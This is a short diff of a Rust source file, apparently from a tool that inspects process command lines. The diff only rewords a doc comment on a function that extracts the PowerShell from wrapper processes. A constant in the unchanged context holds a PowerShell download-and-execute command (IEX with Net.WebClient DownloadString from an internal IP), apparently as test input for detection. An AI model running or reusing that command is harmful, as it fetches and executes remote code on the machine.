@@ -4,7 +4,7 @@ use super::*;
 
 const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')";
 
-/// The PowerShell of an action, wherever it stands behind wrappers.
+/// Returns the PowerShell of an action, whatever the wrappers that start it.
 fn shell(command: &str, arguments: &str) -> (PowerShell, Process) {
     let list = processes(command, arguments);
     let process = list
